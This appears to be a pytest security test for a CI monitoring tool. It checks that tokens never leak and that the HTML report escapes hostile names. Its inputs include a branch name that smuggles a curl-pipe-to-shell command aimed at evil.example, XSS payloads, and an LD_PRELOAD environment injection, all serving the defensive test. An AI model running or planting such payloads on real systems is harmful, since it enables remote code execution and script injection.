"""`smartmon monitor` (a real process, the token only in GITHUB_TOKEN) on a repository whose branch
name, job name and log are hostile: stdout, stderr, the log file, the JSON reports and the HTML
report never show the token or a masked value, and the HTML renders the names as text."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING

from tests.fixtures_sandbox import clone_url, git

if TYPE_CHECKING:
    from tests.fixtures_sandbox import SandboxHandle

pytest_plugins = ["tests.fixtures_sandbox"]

# Valid git ref names: no spaces, `:`, `[` or controls, but HTML, quotes, `$()` and pipes pass.
BRANCH = "<script>alert(1)</script>/\"'$(curl${IFS}evil.example|sh)&amp;|x|"
MASKED = "masked-by-the-job-0451"
LEAKED = "gho_" + "LeakedOAuthToken0123456789abcdefghijkl"


def _workflow(token: str) -> str:
    script = [
        "python -m app",
        f"::add-mask::{MASKED}",
        "::set-env name=LD_PRELOAD::/tmp/evil.so",
        f"echo {token} {LEAKED} <img src=x onerror=alert(1)>",
        f"ModuleNotFoundError: No module named 'yaml' {MASKED} {token} {LEAKED}",
        "exit 1",
    ]
    body = "\n".join("          " + line for line in script)
    return (
        "name: CI\non:\n  push:\n  workflow_dispatch:\njobs:\n  test:\n"
        '    name: "<img src=x onerror=alert(1)> | [a](javascript:alert(1))"\n'
        f"    runs-on: ubuntu-latest\n    steps:\n      - run: |\n{body}\n"
    )


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(k, v or "") for k, v in attrs]


def test_monitor_on_a_hostile_branch(sandbox_server: SandboxHandle, tmp_path: Path) -> None:
    token = sandbox_server.token
    files = {".github/workflows/ci.yml": _workflow(token), "requirements.txt": "packaging\n"}
    sandbox_server.admin.create_repo("octo", "app", files)
    work = tmp_path / "work"
    git("clone", "-q", clone_url(sandbox_server.api_url, "octo/app", token), str(work))
    git("checkout", "-q", "-b", BRANCH, cwd=work)
    (work / "x.txt").write_text("x\n")
    git("add", "x.txt", cwd=work)
    git("commit", "-qm", f"{BRANCH} <!-- [x](javascript:alert(1)) {LEAKED}", cwd=work)
    git("push", "-q", "origin", BRANCH, cwd=work)
    sandbox_server.admin.wait_idle()

    keep = {k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG", "PYTHONPATH")}
    env = {
        **keep,
        "GITHUB_TOKEN": token,
        "GITHUB_REPOSITORY": "octo/app",
        "GITHUB_API_URL": sandbox_server.api_url,
        "LOG_LEVEL": "DEBUG",
    }
    run = tmp_path / "run"
    run.mkdir()
    args = ["--all-branches", "--mode", "report", "--once", "--workspace", str(run / "clone")]
    proc = subprocess.run(
        [sys.executable, "-m", "smartmon", "monitor", *args],
        cwd=run,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode in (0, 1), proc.stderr

    logged = (run / "logs" / "continuous_workflow_monitor.log").read_text()
    reports = [p.read_text() for p in (run / "reports").iterdir() if p.is_file()]
    html = (run / "reports" / "continuous_monitoring_report.html").read_text()
    for text in (proc.stdout, proc.stderr, logged, html, *reports):
        assert token not in text and token[4:] not in text
        assert LEAKED not in text
        assert MASKED not in text
        assert "\x1b" not in text or text is proc.stdout  # the live view may color a terminal

    final = json.loads((run / "reports" / "continuous_monitoring_final_report.json").read_text())
    assert any(w.get("branch") == BRANCH for w in final["workflows"]), final["workflows"]
    assert final["total_issues_found"] >= 1

    tags = _Tags()
    tags.feed(html)
    assert "script" not in tags.tags and "img" not in tags.tags
    assert not [k for k, _ in tags.attrs if k.startswith("on")]
    for key, value in tags.attrs:
        if key in ("href", "src"):
            assert re.match(r"https?://", value) and "javascript:" not in value, value
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
